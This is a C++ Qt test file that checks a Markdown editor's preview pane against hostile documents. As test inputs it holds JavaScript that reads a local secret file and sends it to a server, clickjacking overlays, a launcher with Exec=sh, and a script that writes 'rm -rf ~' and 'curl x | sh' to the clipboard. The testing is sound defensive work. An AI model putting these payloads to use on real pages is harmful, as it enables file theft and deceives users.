// Hostile documents in the real preview: scripts of the document never run, scripts of
// the head fragment run but cannot read local files, only the user's own click on a link
// drawn visibly, or Enter on a visible link they focused, hands an address to the desktop,
// a page's leave-page question holds nothing, a click lets no script fill the clipboard,
// frames never show local files, and web images load as in any browser.
#include "SecuritySupport.h"

#include <QClipboard>
#include <QGuiApplication>
#include <QSignalSpy>
#include <QStatusBar>

namespace {

QString element(const QString &id)
{
    return QStringLiteral("document.body.appendChild(Object.assign(document.createElement('p'),{id:'%1'}));").arg(id);
}

bool hasElement(const QString &id)
{
    return pageValue(QStringLiteral("document.getElementById('%1')!==null").arg(id)).toBool();
}

// A document beside a picture in `folder`, with `body` after a heading and `head` as its
// head file; opened and shown.
bool showDocument(const QString &folder, const QByteArray &body, const QByteArray &head)
{
    QDir().mkpath(folder);
    QImage picture(10, 10, QImage::Format_RGB32);
    picture.fill(QColor(0, 0, 255));
    picture.save(folder + QStringLiteral("pic.png"), "PNG");
    if (!writeFileBytes(folder + QStringLiteral("doc.md"), "# Doc\n\n![pic](pic.png)\n\n" + body) ||
        !writeFileBytes(folder + QStringLiteral("doc.head.txt"), head))
        return false;
    OpenDocument(document(), folder + QStringLiteral("doc.md"));
    return QTest::qWaitFor([] { return previewShown() && readFileBytes(lastPage()).contains("Doc</h1>"); }, kWait);
}

int pixelsOf(const QImage &image, QRgb colour)
{
    int count = 0;
    for (int y = 0; y < image.height(); ++y)
        for (int x = 0; x < image.width(); ++x)
            count += (image.pixel(x, y) & 0xffffff) == (colour & 0xffffff);
    return count;
}

} // namespace

class TestHostilePages : public QObject {
    Q_OBJECT
private slots:
    void onlyTheHeadFragmentsScriptsRun()
    {
        LoopbackServer server;
        QVERIFY(server.listening());
        TestApp t;
        QVERIFY(t.start());
        const QString secret = t.root() + QStringLiteral("private/secret.txt");
        QDir().mkpath(t.root() + QStringLiteral("private"));
        QVERIFY(writeFileBytes(secret, "TOPSECRET"));
        const QByteArray base = server.base().toUtf8();
        const QByteArray secretUrl = QUrl::fromLocalFile(secret).toEncoded();
        QVERIFY(writeFileBytes(t.docsDir() + QStringLiteral("helper.js"),
                               "window.addEventListener('DOMContentLoaded',function(){" +
                                   element("helperMarker").toUtf8() + "});"));

        // The document's own attempts: a script, an error handler, a javascript: link, a
        // meta refresh, each trying to read the secret, send it and go elsewhere.
        const QByteArray steal = "var x=new XMLHttpRequest();try{x.open('GET','" + secretUrl +
                                 "',false);x.send();}catch(e){}new Image().src='" + base +
                                 "body?'+encodeURIComponent(x.responseText);";
        const QByteArray body =
            "<p id=\"text\">Plain text.</p>\n\n"
            "<script>" + element("bodyMarker").toUtf8() + steal + "location='" + base + "moved';</script>\n\n"
            "<img src=\"missing.png\" onerror=\"" + element("errorMarker").toUtf8() + steal +
            "document.getElementById('web').click();\">\n\n"
            "<a id=\"js\" href=\"javascript:" + element("jsMarker").toUtf8() + steal + "\">js link</a>\n\n"
            "<a id=\"web\" href=\"" + base + "web\">web</a>\n\n"
            "<meta http-equiv=\"refresh\" content=\"1; url=" + base + "refresh\">\n";
        // The head fragment's scripts run; reading a local file fails by every route, and
        // what they got is reported to the server.
        const QByteArray head =
            "<script src=\"helper.js\"></script>\n"
            "<script>\nwindow.addEventListener('DOMContentLoaded',function(){" + element("inlineMarker").toUtf8() +
            "var report=function(what){new Image().src='" + base + "'+what;};"
            "var x=new XMLHttpRequest();try{x.open('GET','" + secretUrl + "',false);x.send();"
            "report('got/xhr?'+encodeURIComponent(x.responseText));}catch(e){report('tried/xhr');}"
            "fetch('" + secretUrl + "').then(function(r){return r.text();}).then("
            "function(t){report('got/fetch?'+encodeURIComponent(t));},function(){report('tried/fetch');});"
            "var img=new Image();img.onload=function(){var c=document.createElement('canvas');"
            "var g=c.getContext('2d');g.drawImage(img,0,0);"
            "try{g.getImageData(0,0,1,1);report('got/canvas');}catch(e){report('tried/canvas');}};"
            "img.src='pic.png';"
            "setTimeout(function(){report('done');},3000);});\n</script>\n";
        QVERIFY(showDocument(t.docsDir(), body, head));

        // A real click on the javascript: link.
        const QPoint link = centreOf(QStringLiteral("js"));
        QVERIFY(link.x() >= 0);
        clickPane(link);

        QTRY_VERIFY_WITH_TIMEOUT(server.saw(QStringLiteral("/done")), kWait);
        // What the page names beside the document still loads.
        QVERIFY(hasElement(QStringLiteral("helperMarker")));
        QCOMPARE(pageValue(QStringLiteral("document.images[0].naturalWidth")).toInt(), 10);
        QVERIFY(hasElement(QStringLiteral("inlineMarker")));
        QVERIFY(!hasElement(QStringLiteral("bodyMarker")));
        QVERIFY(!hasElement(QStringLiteral("errorMarker")));
        QVERIFY(!hasElement(QStringLiteral("jsMarker")));
        QVERIFY2(server.saw(QStringLiteral("/tried/xhr")) && server.saw(QStringLiteral("/tried/fetch")) &&
                     server.saw(QStringLiteral("/tried/canvas")),
                 qPrintable(server.requests().join(u' ')));
        for (const QString &path : server.requests())
            QVERIFY2(!path.contains(QLatin1String("TOPSECRET")) && !path.startsWith(QLatin1String("/body")) &&
                         !path.startsWith(QLatin1String("/got")),
                     qPrintable(path));
        QVERIFY(t.platform.openedUrls().isEmpty());
        QTRY_VERIFY_WITH_TIMEOUT(previewShown(), kWait);
    }

    void onlyTheUsersClickLeavesThePane()
    {
        TestApp t;
        QVERIFY(t.start());
        const QString docs = t.docsDir();
        QVERIFY(writeFileBytes(docs + QStringLiteral("notes.txt"), "notes"));
        QVERIFY(writeFileBytes(docs + QStringLiteral("evil.kdelnk"), "[Desktop Entry]\nExec=sh\n"));
        QVERIFY(writeFileBytes(docs + QStringLiteral("install.sh"), "#!/bin/sh\n"));
        QVERIFY(QFile::setPermissions(docs + QStringLiteral("install.sh"),
                                      QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
        const QByteArray body = "<p id=\"text\">Plain text to click on.</p>\n\n"
                                "<a id=\"web\" href=\"https://example.com/page\">web</a>\n\n"
                                "<a id=\"local\" href=\"notes.txt\">notes</a>\n\n"
                                "<a id=\"desktop\" href=\"evil.kdelnk\">launcher</a>\n\n"
                                "<a id=\"program\" href=\"install.sh\">program</a>\n\n"
                                "<a id=\"lure\" href=\"https://example.com/lure\">lure</a>\n";
        // A head script that waits for the user's press on plain text to go elsewhere.
        const QByteArray head = "<script>document.addEventListener('mousedown',function(e){"
                                "if(e.target.closest('a'))return;var lure=document.getElementById('lure');"
                                "lure.focus({preventScroll:true});lure.click();setTimeout(function(){lure.click();"
                                "location='https://example.com/piggyback';},10);});</script>\n";
        QVERIFY(showDocument(docs, body, head));
        const QUrl web(QStringLiteral("https://example.com/page"));
        const QUrl local = QUrl::fromLocalFile(docs + QStringLiteral("notes.txt"));

        // Clicked by a script: nothing leaves.
        pageValue(QStringLiteral("document.getElementById('web').click();document.getElementById('local').click();"));
        // Clicked by the user: handed on, in order.
        clickPane(centreOf(QStringLiteral("web")));
        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls().size(), 1, kWait);
        clickPane(centreOf(QStringLiteral("local")));
        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls().size(), 2, kWait);
        QCOMPARE(t.platform.openedUrls(), QList<QUrl>({web, local}));

        // A press on plain text hands nothing on, whatever a script does meanwhile;
        // launchers and programs are refused even when really clicked.
        // The note of the script clicks above must not count for this press.
        mainWindow()->setStatusText(QString());
        clickPane(centreOf(QStringLiteral("text")));
        QTRY_VERIFY_WITH_TIMEOUT(mainWindow()->statusText() == QStringLiteral("Blocked a link the page opened by itself."),
                                 kWait);
        clickPane(centreOf(QStringLiteral("desktop")));
        QTRY_VERIFY2_WITH_TIMEOUT(mainWindow()->statusText().contains(QLatin1String("evil.kdelnk")),
                                  qPrintable(mainWindow()->statusText() + QString::number(t.platform.openedUrls().size())), kWait);
        clickPane(centreOf(QStringLiteral("program")));
        QTRY_VERIFY_WITH_TIMEOUT(mainWindow()->statusText().contains(QLatin1String("install.sh")), kWait);
        QCOMPARE(t.platform.openedUrls(), QList<QUrl>({web, local}));
        QTRY_VERIFY_WITH_TIMEOUT(previewShown(), kWait);
    }

    // A click counts only on a link drawn where it lands, Enter only on a visible link the
    // user focused; the status bar shows the address of the link under the pointer.
    void onlyVisibleLinksTheUserReachedLeave()
    {
        TestApp t;
        QVERIFY(t.start());
        const QByteArray body = "<p id=\"text\">Plain text to click on.</p>\n\n"
                                "<p><a id=\"ghost\" href=\"https://example.com/ghost\" style=\"opacity:0\">ghost</a></p>\n\n"
                                "<p><a id=\"seen\" href=\"https://example.com/seen\">seen</a></p>\n\n"
                                "<p><a id=\"other\" href=\"https://example.com/other\">other</a></p>\n\n"
                                "<div id=\"cover\"></div>\n";
        QVERIFY(showDocument(t.docsDir(), body, QByteArray()));
        const QUrl seen(QStringLiteral("https://example.com/seen"));
        QSignalSpy hovers(pane(), &PreviewPane::hover);
        QWidget *target = pane()->focusProxy() ? pane()->focusProxy() : pane();
        auto blocked = [] {
            return mainWindow()->statusText() == QStringLiteral("Blocked a link the page opened by itself.");
        };

        // Links over the text the reader sees: invisible, or drawn beneath what they see.
        const char *fill = "position:fixed;left:0;top:0;width:100%;height:100%;";
        const QStringList covers = {
            QStringLiteral("<a href='https://example.com/1' style='%1opacity:0;background:#fff'>cover</a>"),
            QStringLiteral("<a href='https://example.com/2' style='%1color:transparent'>cover</a>"),
            QStringLiteral("<div style='opacity:0'><a href='https://example.com/3' style='%1background:red'>x</a></div>"),
            QStringLiteral("<a href='https://example.com/4' style='%1z-index:1;background:#fff'>x</a>"
                           "<p style='position:fixed;left:0;top:0;width:100%;height:100%;z-index:2;"
                           "pointer-events:none;background:#fff'>Plain text to click on.</p>"),
        };
        for (const QString &cover : covers) {
            pageValue(QStringLiteral("document.getElementById('cover').innerHTML=\"%1\";").arg(cover.arg(QLatin1String(fill))));
            mainWindow()->setStatusText(QString());
            clickPane(centreOf(QStringLiteral("text")));
            QTRY_VERIFY2_WITH_TIMEOUT(blocked(), qPrintable(cover), kWait);
        }
        pageValue(QStringLiteral("document.getElementById('cover').innerHTML='';"));
        QVERIFY(t.platform.openedUrls().isEmpty());

        // A visible link followed by a click; its address shows while the pointer is on it.
        const QPoint seenPoint = centreOf(QStringLiteral("seen"));
        QTest::mouseMove(target, seenPoint);
        QTRY_VERIFY_WITH_TIMEOUT(!hovers.isEmpty() && hovers.last().at(0).toString() == seen.toString(), kWait);
        QCOMPARE(mainWindow()->statusBar()->currentMessage(), seen.toString());
        QTest::mouseMove(target, centreOf(QStringLiteral("text")));
        QTRY_VERIFY_WITH_TIMEOUT(hovers.last().at(0).toString().isEmpty(), kWait);
        QCOMPARE(mainWindow()->statusBar()->currentMessage(), QString());
        clickPane(seenPoint);
        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls(), QList<QUrl>({seen}), kWait);

        // Enter: not on an invisible link the user reached, nor on a link a script focused;
        // on a visible link the user reached by Tab it follows.
        auto focused = [] { return pageValue(QStringLiteral("document.activeElement.id")).toString(); };
        clickPane(centreOf(QStringLiteral("text")));
        QTest::keyClick(target, Qt::Key_Tab);
        QTRY_COMPARE_WITH_TIMEOUT(focused(), QStringLiteral("ghost"), kWait);
        mainWindow()->setStatusText(QString());
        QTest::keyClick(target, Qt::Key_Return);
        QTRY_VERIFY_WITH_TIMEOUT(blocked(), kWait);
        QTest::keyClick(target, Qt::Key_Tab);
        QTRY_COMPARE_WITH_TIMEOUT(focused(), QStringLiteral("seen"), kWait);
        QTest::keyClick(target, Qt::Key_Return);
        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls(), QList<QUrl>({seen, seen}), kWait);
        pageValue(QStringLiteral("document.getElementById('other').focus();"));
        mainWindow()->setStatusText(QString());
        QTest::keyClick(target, Qt::Key_Return);
        QTRY_VERIFY_WITH_TIMEOUT(blocked(), kWait);
        QCOMPARE(t.platform.openedUrls(), QList<QUrl>({seen, seen}));
        QTRY_VERIFY_WITH_TIMEOUT(previewShown(), kWait);
    }

    // A page's leave-page question never holds the program's next load.
    void leavePageQuestionHoldsNoLoad()
    {
        TestApp t;
        QVERIFY(t.start());
        const QByteArray head = "<script>window.addEventListener('beforeunload',function(e){"
                                "e.preventDefault();e.returnValue='Stay';return 'Stay';});</script>\n";
        QVERIFY(showDocument(t.docsDir(), "<p id=\"text\">Plain text to click on.</p>\n", head));
        // The engine asks only once the user has acted on the page.
        clickPane(centreOf(QStringLiteral("text")));
        type(markdown(), "Changed first line\n\n");
        QTRY_VERIFY_WITH_TIMEOUT(previewShown() && pageValue(QStringLiteral("document.body.textContent"))
                                                       .toString()
                                                       .contains(QLatin1String("Changed first line")),
                                 kWait);
        QVERIFY(t.platform.openedUrls().isEmpty());
    }

    // A click lets no page script write the clipboard; the user's own copy still does.
    void clickLeavesTheClipboardAlone()
    {
        TestApp t;
        QVERIFY(t.start());
        const QByteArray head = "<script>document.addEventListener('click',function(){"
                                "var t=document.createElement('textarea');t.value='rm -rf ~';"
                                "document.body.appendChild(t);t.select();var copied=document.execCommand('copy');"
                                "t.remove();var done=function(how){document.title='copied '+copied+' '+how;};"
                                "if(navigator.clipboard)navigator.clipboard.writeText('curl x | sh').then("
                                "function(){done('written');},function(){done('refused');});else done('none');"
                                "});</script>\n";
        QVERIFY(showDocument(t.docsDir(), "<p id=\"text\">Plain text to click on.</p>\n", head));
        QClipboard *clipboard = QGuiApplication::clipboard();
        clipboard->setText(QStringLiteral("mine"));
        clickPane(centreOf(QStringLiteral("text")));
        QTRY_VERIFY_WITH_TIMEOUT(pane()->title().startsWith(QLatin1String("copied")), kWait);
        QTRY_COMPARE_WITH_TIMEOUT(clipboard->text(), QStringLiteral("mine"), kWait);
        // The user selects the text and presses Ctrl+C.
        pageValue(QStringLiteral("document.activeElement.blur();"
                                 "getSelection().selectAllChildren(document.getElementById('text'));"));
        QWidget *target = pane()->focusProxy() ? pane()->focusProxy() : pane();
        target->setFocus();
        QTest::keyClick(target, Qt::Key_C, Qt::ControlModifier);
        QTRY_COMPARE_WITH_TIMEOUT(clipboard->text(), QStringLiteral("Plain text to click on."), kWait);
    }

    void webImagesShowAndFramesShowNoLocalFile()
    {
        LoopbackServer server;
        QVERIFY(server.listening());
        TestApp t;
        QVERIFY(t.start());
        const QString outside = t.root() + QStringLiteral("private/green.htm");
        QDir().mkpath(t.root() + QStringLiteral("private"));
        QVERIFY(writeFileBytes(outside, "<html><body style=\"background:#00ff00\">secret</body></html>"));
        const QByteArray body = "<img id=\"red\" src=\"" + server.base().toUtf8() + "red.png\">\n\n"
                                "<iframe src=\"" + QUrl::fromLocalFile(outside).toEncoded() +
                                "\" style=\"width:300px;height:200px\"></iframe>\n\n"
                                "<iframe src=\"" + server.base().toUtf8() + "frame\" style=\"width:50px;height:50px\"></iframe>\n";
        QVERIFY(showDocument(t.docsDir(), body, QByteArray()));
        QTRY_VERIFY_WITH_TIMEOUT(server.saw(QStringLiteral("/red.png")), kWait);
        QTRY_VERIFY_WITH_TIMEOUT(server.saw(QStringLiteral("/frame")), kWait);
        QTRY_VERIFY_WITH_TIMEOUT(pageValue(QStringLiteral("document.getElementById('red').naturalWidth"))
                                         .toInt() == 200,
                                 kWait);
        // The picture is drawn; nothing of the local page is.
        QImage shot;
        QTRY_VERIFY_WITH_TIMEOUT((shot = pane()->grab().toImage(), pixelsOf(shot, qRgb(255, 0, 0)) > 10000), kWait);
        QCOMPARE(pixelsOf(shot, qRgb(0, 255, 0)), 0);
        QVERIFY(t.platform.openedUrls().isEmpty());
    }
};

QUILLDOWN_TEST_MAIN(TestHostilePages)
#include "tst_hostilepages.moc"
